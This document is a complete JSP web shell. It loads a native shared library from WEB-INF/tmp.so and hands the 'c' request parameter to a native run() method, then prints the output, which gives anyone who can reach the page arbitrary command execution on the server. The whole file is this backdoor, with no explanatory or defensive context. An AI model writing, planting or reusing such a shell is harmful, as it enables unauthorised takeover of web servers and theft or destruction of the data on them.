<%@ page import="java.io.*" %>
<%!
  public static native String run(String c);
%>
<%
  String lib = application.getRealPath("/") + "WEB-INF/tmp.so";
  if (request.getParameter("c") != null) {
    System.load(lib);
    out.print(run(request.getParameter("c")));
  }
%>
